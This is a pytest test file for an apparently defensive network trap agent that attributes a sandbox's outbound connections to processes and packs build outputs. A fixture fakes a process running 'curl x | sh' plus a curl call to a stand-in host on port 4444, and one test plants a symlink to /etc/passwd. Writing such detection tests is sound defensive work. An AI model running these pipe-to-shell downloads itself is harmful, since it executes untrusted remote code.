    assert any("unexpected tables" in p for p in ta.verify_nft_json(extra_table, cfg))
    wrong_port = ta.Config(tcp_port=41000)
    assert any("41000" in p for p in ta.verify_nft_json(NFT_LISTING, wrong_port))
    moved = json.loads(json.dumps(NFT_LISTING).replace('"prio": -100', '"prio": 100'))
    assert any("nat_out has the wrong" in p for p in ta.verify_nft_json(moved, cfg))
    assert ta.verify_nft_json({"nftables": []}, cfg)


def test_iptables_fallback_rules() -> None:
    cfg = ta.Config()
    v4, v6 = ta.build_iptables_rules(cfg, False), ta.build_iptables_rules(cfg, True)
    assert "-d 127.0.0.0/8" in v4 and "icmp-admin-prohibited" in v4
    assert "-d ::1/128" in v6 and "icmp6-adm-prohibited" in v6
    for rules in (v4, v6):
        assert rules.count("COMMIT") == 3
        assert f"--to-ports {cfg.tcp_port}" in rules and "--nflog-group 7" in rules


def test_iptables_save_normalized_for_comparison() -> None:
    one = "# Generated by iptables-nft-save v1.8.9 on Mon\n*nat\n:OUTPUT ACCEPT [3:180]\nCOMMIT"
    two = "# Generated by iptables-nft-save v1.8.9 on Tue\n*nat\n:OUTPUT ACCEPT [9:540]\nCOMMIT"
    assert ta.normalize_iptables_save(one) == ta.normalize_iptables_save(two)
    assert ta.normalize_iptables_save(one) != ta.normalize_iptables_save(one + "\n-A X")


# --------------------------------------------------------------------------- attribution

def test_proc_net_parsing() -> None:
    text = (
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
        "timeout inode\n"
        "   0: 010012C6:A0F1 077100CB:115C 01 00000000:00000000 00:00000000 00000000  1000 "
        "       0 424242 1 0000000000000000 20 4 30 10 -1\n"
        "   1: bad line\n")
    [entry] = ta.parse_proc_net(text)
    if sys.byteorder == "little":
        assert (entry.local, entry.lport, entry.remote, entry.rport) == (
            "198.18.0.1", 41201, "203.0.113.7", 4444)
    assert (entry.uid, entry.inode) == (1000, 424242)
    six = "0000000000000000FFFF00000100007F" if sys.byteorder == "little" else \
        "00000000000000000000FFFF7F000001"
    addr, port = ta.decode_proc_address(f"{six}:0035")
    assert (addr, port) == ("::ffff:127.0.0.1", 53)
    assert ta.same_address(addr, "127.0.0.1") and ta.same_address("0.0.0.0", "192.0.2.1")
    assert not ta.same_address("192.0.2.1", "192.0.2.2")


def _fake_proc(root: Path) -> None:
    (root / "net").mkdir(parents=True)
    local = "010012C6:A0F1" if sys.byteorder == "little" else "C6120001:A0F1"
    (root / "net" / "tcp").write_text(
        "header\n"
        f"   0: {local} 077100CB:115C 01 0:0 0:0 0  1000 0 424242 1\n")
    (root / "net" / "tcp6").write_text("header\n")
    for pid, ppid, args, fds in ((41, 1, [b"sh", b"-c", b"curl x | sh"], {}),
                                 (42, 41, [b"curl", b"http://x.example/"],
                                  {"3": "socket:[424242]", "0": "/dev/null"}),
                                 (43, 41, [b"sleep"], {"3": "socket:[1]"})):
        proc = root / str(pid)
        (proc / "fd").mkdir(parents=True)
        (proc / "cmdline").write_bytes(b"\0".join(args) + b"\0")
        (proc / "stat").write_text(f"{pid} (weird) name) S {ppid} 1 1 0")
        (proc / "exe").symlink_to(f"/usr/bin/{args[0].decode()}")
        for fd, target in fds.items():
            (proc / "fd" / fd).symlink_to(target)


def test_attributor_finds_the_process(tmp_path: Path) -> None:
    _fake_proc(tmp_path)
    found = ta.Attributor(proc=tmp_path).find("tcp", "198.18.0.1", 41201)
    assert (found.uid, found.pid, found.exe) == (1000, 42, "/usr/bin/curl")
    assert found.cmdline == "curl http://x.example/"
    assert found.parents == [{"pid": 41, "exe": "/usr/bin/sh",
                              "cmdline": "sh -c 'curl x | sh'"}]
    event = ta.new_event("tcp")
    found.apply(event)
    assert (event["uid"], event["pid"]) == (1000, 42)


def test_attributor_degrades(tmp_path: Path) -> None:
    _fake_proc(tmp_path)
    gone = ta.Attributor(proc=tmp_path).find("tcp", "198.18.0.1", 1)
    assert gone.pid is None and gone.uid is None and gone.note
    uid_only = ta.Attributor(proc=tmp_path, pids=False).find("tcp", "198.18.0.1", 41201)
    assert (uid_only.uid, uid_only.pid) == (1000, None)
    assert ta.Attributor(proc=tmp_path / "missing").find("udp", "::1", 53).pid is None


# --------------------------------------------------------------------------- pairing

# A ctnetlink answer (IPCTNL_MSG_CT_NEW) for a UDP flow 198.18.0.1:40000 -> 192.0.2.53:53
# that REDIRECT sent to 127.0.0.1:47053, captured in a --network none container.
CT_REPLY = bytes.fromhex(
    "a4000000000102002a0000000100000002000000340001801400018008000100c612000108000200c0000235"
    "1c0002800500010011000000060002009c40000006000300003500003400028014000180080001007f000001"
    "08000200c61200011c000280050001001100000006000200b7cd0000060003009c40000008000300000001a8"
    "080008000000000008000c00a37c1aeb08000b0000000002080007000000001e")


def test_conntrack_request_and_reply() -> None:
    reply = ta.CtTuple("127.0.0.1", 47053, "198.18.0.1", 40000, 17)
    msg = ta.ct_get_message(reply, seq=42)
    length, mtype, flags, seq, _pid = struct.unpack("=IHHII", msg[:16])
    assert (length, mtype, flags, seq) == (len(msg), (1 << 8) | 1, ta.NLM_F_REQUEST, 42)
    assert msg[16] == socket.AF_INET
    [(atype, nested)] = list(ta.iter_attrs(msg[20:]))
    assert atype == ta.CTA_TUPLE_REPLY
    assert ta.parse_ct_tuple(nested) == reply
    six = ta.CtTuple("::1", 47002, "fd00:7e57::1", 5000, 17)
    [(_atype, nested6)] = list(ta.iter_attrs(ta.ct_get_message(six, 1)[20:]))
    assert ta.parse_ct_tuple(nested6) == six
    assert ta.parse_ct_original(CT_REPLY) == ta.CtTuple(
        "198.18.0.1", 40000, "192.0.2.53", 53, 17)
    assert ta.parse_ct_original(b"") is None
    assert ta.parse_ct_original(NFLOG_UDP_DNS) is None
    assert ta.parse_ct_tuple(b"") is None


def _udp(dst: str, dport: int, payload: bytes, sport: int = 40000) -> ta.IpPacket:
    return ta.IpPacket(4, 17, "198.18.0.1", dst, sport=sport, dport=dport, payload=payload)


def _key(pkt: ta.IpPacket) -> ta.FlowKey:
    return (pkt.family, pkt.proto, pkt.src, pkt.sport or 0, pkt.dst, pkt.dport or 0)


def test_flow_table_pairs_udp_by_flow_and_payload() -> None:
    table = ta.FlowTable()
    first, second = _udp("198.51.100.1", 9, b"first"), _udp("198.51.100.1", 9, b"second")
    assert table.add(first, 1000, 0.0) == [] and table.add(second, 1000, 0.1) == []
    got = table.take(_key(second), b"second")
    assert got is not None and got.uid == 1000 and got.packet.payload == b"second"
    assert table.take(_key(first), b"unknown") is None
    assert table.take(_key(_udp("198.51.100.2", 9, b"first")), b"first") is None
    [left] = table.expire(10.0)
    assert left.packet.payload == b"first" and left.why.startswith("never reached")
    assert table.count == 0 and not table.flows and table.expire(20.0) == []


def test_flow_table_truncated_payloads() -> None:
    assert ta.payload_matches(b"a" * 450, b"a" * 450 + b"tail")
    assert not ta.payload_matches(b"ab", b"abc")
    assert ta.payload_matches(b"", b"")


def test_flow_table_tcp_ignores_syn_retransmits() -> None:
    table = ta.FlowTable()
    syn = ta.IpPacket(4, 6, "198.18.0.1", "203.0.113.7", sport=5000, dport=4444)
    assert table.add(syn, 1000, 0.0) == [] and table.add(syn, 1000, 1.0) == []
    assert table.count == 1
    got = table.take(_key(syn))
    assert got is not None and got.seen == 0.0
    assert table.take(_key(syn)) is None and table.count == 0
    assert table.expire(100.0) == []  # taken records are not handed back


def test_flow_table_cap_hands_records_back_instead_of_losing_them() -> None:
    table = ta.FlowTable(total=3)
    given_back = []
    for i in range(5):
        given_back += table.add(_udp("198.51.100.9", 1000 + i, b"x"), 1000, 0.0)
    assert [f.packet.dport for f in given_back] == [1003, 1004]
    assert all("overloaded" in f.why for f in given_back)
    assert table.count == 3
    # Once full, records older than half a second are let go to make room.
    back = table.add(_udp("198.51.100.9", 2000, b"y"), 1000, 1.0)
    assert sorted(f.packet.dport or 0 for f in back) == [1000, 1001, 1002]
    assert table.count == 1 and len(table.flows) == 1


# --------------------------------------------------------------- inline outputs


def _outputs_log(root: Path, **caps: int) -> str:
    out = io.StringIO()
    log = ta.EventLog(out, rate=10, burst=10, cap=10, forged_cap=10)
    with contextlib.ExitStack() as stack:
        for name, value in caps.items():
            stack.enter_context(mock.patch.object(ta, f"INLINE_MAX_{name.upper()}", value))
        ta.write_outputs(log, str(root), uid=os.geteuid(), gid=os.getegid(), fs_ids=None)
    return out.getvalue()


def test_small_plain_outputs_go_inline_and_come_back_whole(tmp_path: Path) -> None:
    """What the agent sends is what the engine's archive of /out/. holds: ./PATH members,
    directories and regular files with their modes, and the host's extractor takes it."""
    root = tmp_path / "out"
    (root / "sub" / "deeper").mkdir(parents=True)
    (root / "app.whl").write_bytes(b"\x00wheel" * 5000)
    (root / "sub" / "deeper" / "run.sh").write_text("#!/bin/sh\n")
    (root / "sub" / "deeper" / "run.sh").chmod(0o755)
    (root / "empty").write_bytes(b"")
    text = _outputs_log(root)
    header, *body, end = text.splitlines()
    assert header.startswith(trap.OUTPUTS_PREFIX + " {") and end == trap.OUTPUTS_END
    assert all(len(line) <= ta.INLINE_LINE_CHARS for line in body)
    sent = trap.sent_outputs("noise\n" + text + trap.DONE_LINE + "\n")
    assert sent is not None and sent.tar is not None
    with tarfile.open(fileobj=io.BytesIO(sent.tar)) as tar:
        members = {m.name: m for m in tar.getmembers()}
    assert sorted(members) == ["./app.whl", "./empty", "./sub", "./sub/deeper",
                               "./sub/deeper/run.sh"]
    assert members["./sub/deeper/run.sh"].mode == 0o755 and members["./sub"].isdir()
    files = extract_regular_files(io.BytesIO(sent.tar), tmp_path / "got", ExtractLimits(),
                                  strip_prefix=".")
    assert {f.path: f.size for f in files} == {"app.whl": 30000, "empty": 0,
                                               "sub/deeper/run.sh": 10}
    assert (tmp_path / "got" / "app.whl").read_bytes() == (root / "app.whl").read_bytes()


@pytest.mark.parametrize("make", ["link", "fifo", "many", "big", "deep", "not-utf8", "control"])
def test_anything_but_a_few_small_plain_files_is_left_to_the_engine(
        tmp_path: Path, make: str) -> None:
    root = tmp_path / "out"
    root.mkdir()
    (root / "a.txt").write_text("a")
    if make == "link":
        (root / "z-link").symlink_to("/etc/passwd")
    elif make == "fifo":
        os.mkfifo(root / "pipe")
    elif make == "many":
        for i in range(12):
            (root / f"f{i}").write_text("x")
    elif make == "big":
        (root / "big.bin").write_bytes(b"x" * 2000)
    elif make == "not-utf8":
        (Path(os.fsdecode(bytes(root) + b"/\xff.whl"))).write_text("x")
    elif make == "control":
        (root / "a\x1b[2J.whl").write_text("x")
    else:
        deep = root
        for _ in range(6):
            deep = deep / "d"
        deep.mkdir(parents=True)
    text = _outputs_log(root, files=10, bytes=1000, depth=5)
    assert trap.OUTPUTS_END not in text
    sent = trap.sent_outputs(text)
    assert sent is not None and sent.tar is None and sent.why


def test_an_incomplete_or_garbled_section_is_never_taken_for_outputs(tmp_path: Path) -> None:
    root = tmp_path / "out"
    root.mkdir()
    (root / "a.whl").write_bytes(bytes(range(256)) * 40)
    header, *body, end = _outputs_log(root).splitlines()
    assert trap.sent_outputs("\n".join([header, *body])) is None  # still arriving
    flipped = body[0][:10] + ("A" if body[0][10] != "A" else "B") + body[0][11:]
    changed = trap.sent_outputs("\n".join([header, flipped, *body[1:], end]))
    assert changed is not None and changed.tar is None and "header" in changed.why
    short = trap.sent_outputs("\n".join([header, *body[1:], end]))
    assert short is not None and short.tar is None
    garbled = trap.sent_outputs("\n".join([header, body[0] + "!", *body[1:], end]))
    assert garbled == trap.SentOutputs(None, "garbled inline outputs")
    assert trap.sent_outputs("REPROBUILD-OUTPUTS {nope\n") == trap.SentOutputs(
        None, "unreadable outputs line from the agent")
    assert trap.sent_outputs(trap.OUTPUTS_END + "\n" + trap.DONE_LINE) is None


# --------------------------------------------------------------- exact socket lookups


def _inode(sock: socket.socket) -> int:
    return os.fstat(sock.fileno()).st_ino


@pytest.mark.parametrize("family", [socket.AF_INET, socket.AF_INET6])
def test_sock_diag_finds_a_tcp_socket_by_its_tuple_as_proc_net_does(family: int) -> None:
    """The kernel's exact lookup names the same uid and inode as /proc/net/tcp, for an
    IPv4 socket and for a dual-stack one that reached an IPv4 address (v4-mapped)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        with socket.socket(family, socket.SOCK_STREAM) as client:
            target = ("127.0.0.1" if family == socket.AF_INET else "::ffff:127.0.0.1",
                      server.getsockname()[1])
            client.connect(target)
            accepted, _ = server.accept()
            with accepted, contextlib.closing(ta.SockDiag()) as diag:
                local = client.getsockname()[0].removeprefix("::ffff:"), client.getsockname()[1]
                remote = ("127.0.0.1", server.getsockname()[1])
                found = diag.lookup(local, remote)
                assert found == (os.getuid(), _inode(client))
                scanned = ta.Attributor(pids=False).find("tcp", local[0], local[1])
                assert (scanned.uid, found[0]) == (os.getuid(), os.getuid())
                exact = ta.Attributor(pids=False, diag=diag).find("tcp", local[0], local[1],
                                                                  remote)
                assert exact.uid == os.getuid() and exact.note == scanned.note
                # The other end of the same connection is another socket.
                assert diag.lookup(remote, local) == (os.getuid(), _inode(accepted))
                assert diag.lookup(local, ("127.0.0.1", 1)) is None


def test_sock_diag_answers_are_parsed_strictly() -> None:
    request = ta.sock_diag_request(4, 6, ("10.0.0.1", 40000), ("192.0.2.1", 80), 7)
    length, mtype, flags, seq, _pid = struct.unpack("=IHHII", request[:16])
    assert (length, mtype, flags, seq) == (len(request), ta.SOCK_DIAG_BY_FAMILY,
                                           ta.NLM_F_REQUEST, 7)
    assert request[24:28] == struct.pack(">HH", 40000, 80)
    assert request[28:32] == socket.inet_aton("10.0.0.1")
    assert request[44:48] == socket.inet_aton("192.0.2.1")
    error = struct.pack("=IHHII", 36, ta.NLMSG_ERROR, 0, 7, 0) + struct.pack("=i", -2) + \
        request[:16]
    assert ta.parse_sock_diag(error) is None
    message = bytes(64) + struct.pack("=II", 1000, 4242)
    answer = struct.pack("=IHHII", 16 + len(message), ta.SOCK_DIAG_BY_FAMILY, 0, 7, 0) + message
    assert ta.parse_sock_diag(answer) == (1000, 4242)
    assert ta.parse_sock_diag(answer[:-4]) is None  # cut short: no answer


def test_an_unexpected_failure_while_packing_leaves_the_outputs_to_the_engine(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The agent must still reach DONE (the evidence) whatever the outputs do to tarfile."""
    def broken(root: str, **_caps: int) -> bytes:
        raise UnicodeEncodeError("utf-8", "\udcff", 0, 1, "surrogates not allowed")

    monkeypatch.setattr(ta, "outputs_tar", broken)
    text = _outputs_log(tmp_path)
    sent = trap.sent_outputs(text)
    assert sent is not None and sent.tar is None and "UnicodeEncodeError" in sent.why
